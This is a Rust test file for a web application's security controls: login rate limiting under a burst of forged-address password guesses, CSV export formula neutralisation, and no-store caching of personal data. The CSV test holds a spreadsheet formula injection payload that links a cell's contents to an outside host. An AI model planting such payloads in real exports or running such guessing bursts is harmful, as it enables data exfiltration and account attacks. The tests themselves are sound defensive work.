//! Login limits under a burst, spreadsheet cells that cannot become formulas, no caching of personal data.
use super::*;

async fn login_status(app: &TestApp, user: &str, password: &str, from: &str) -> StatusCode {
    Client::new()
        .post(app.url("/api/v1/auth/login"))
        .header("x-forwarded-for", from)
        .json(&json!({"username": user, "password": password}))
        .send()
        .await
        .unwrap()
        .status()
}

/// A burst of wrong passwords cannot outrun the limit, does not starve other requests,
/// and does not lock the owner out from their own office.
#[tokio::test]
async fn login_limits_hold_under_a_burst() {
    let app = TestApp::spawn_with(|c| c.trust_forwarded_for = true).await;
    let viewer = app.token("operator").await;
    let started = std::time::Instant::now();
    let burst: Vec<_> = (0..200)
        .map(|i| {
            let url = app.url("/api/v1/auth/login");
            tokio::spawn(async move {
                Client::new()
                    .post(url)
                    // The client's own claim left of the proxy's is ignored.
                    .header(
                        "x-forwarded-for",
                        format!("10.9.{}.{}, 10.0.0.66", i / 250, i % 250),
                    )
                    .json(&json!({"username": "admin", "password": format!("salah-{i}")}))
                    .send()
                    .await
                    .unwrap()
                    .status()
            })
        })
        .collect();
    // Meanwhile the server answers others promptly.
    let mut slowest = std::time::Duration::ZERO;
    for _ in 0..5 {
        let t = std::time::Instant::now();
        assert_eq!(app.get(&viewer, "/healthz").await.status(), StatusCode::OK);
        assert_eq!(
            app.get(&viewer, "/api/v1/auth/me").await.status(),
            StatusCode::OK
        );
        slowest = slowest.max(t.elapsed());
    }
    let mut checked = 0;
    for h in burst {
        match h.await.unwrap() {
            StatusCode::UNAUTHORIZED => checked += 1,
            StatusCode::TOO_MANY_REQUESTS => {}
            s => panic!("unexpected {s}"),
        }
    }
    assert!(checked <= 5, "{checked} wrong passwords were checked");
    assert!(
        slowest < std::time::Duration::from_secs(1),
        "{slowest:?} while under attack ({:?})",
        started.elapsed()
    );
    // The attacker's address is held back, even with the right password…
    assert_eq!(
        login_status(&app, "admin", PASSWORD, "10.0.0.66").await,
        StatusCode::TOO_MANY_REQUESTS
    );
    // …the owner at the office is not.
    assert_eq!(
        login_status(&app, "admin", PASSWORD, "10.0.0.5").await,
        StatusCode::OK
    );
    app.stop().await;
}

/// No cell of a CSV the system writes becomes a live formula in a spreadsheet program.
#[tokio::test]
async fn csv_cells_cannot_become_formulas() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    let mut p = siti();
    p["name"] = json!("=HYPERLINK(\"http://x/?\"&A2,\"klik\")");
    create(&app, &op, p).await;
    let csv = app
        .get(&op, "/api/v1/persons/export?format=csv")
        .await
        .text()
        .await
        .unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    app.stop().await;
}

/// Nothing with personal data is kept by a shared PC's browser; assets are cached.
#[tokio::test]
async fn personal_data_is_never_cached() {
    let app = TestApp::spawn().await;
    let op = app.token("operator").await;
    let id = create(&app, &op, siti()).await;
    let b = app.browser_login("operator").await;
    for path in [
        format!("/persons/{id}"),
        "/persons/export?format=csv".into(),
        "/".into(),
    ] {
        let r = b.get(app.url(&path)).send().await.unwrap();
        assert_eq!(r.headers()["cache-control"], "no-store", "{path}");
    }
    let r = app.get(&op, &format!("/api/v1/persons/{id}")).await;
    assert_eq!(r.headers()["cache-control"], "no-store");
    // An XLSX export is packed in a private temporary file, gone once it is sent.
    let x = app.get(&op, "/api/v1/persons/export?format=xlsx").await;
    assert_eq!(x.headers()["cache-control"], "no-store");
    assert!(x.bytes().await.unwrap().starts_with(b"PK"));
    let prefix = format!("sikube-export-{}-", std::process::id());
    let left = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
        .count();
    assert_eq!(left, 0, "temporary export files left behind");
    let r = b.get(app.url("/static/app.css")).send().await.unwrap();
    assert!(r.headers()["cache-control"]
        .to_str()
        .unwrap()
        .starts_with("public"));
    // And no CSRF token travels in a URL: no form action carries one.
    for path in ["/import", "/profile"] {
        let page = app.page(&b, path).await;
        assert!(!page.contains("?_csrf="), "{path}");
    }
    app.stop().await;
}
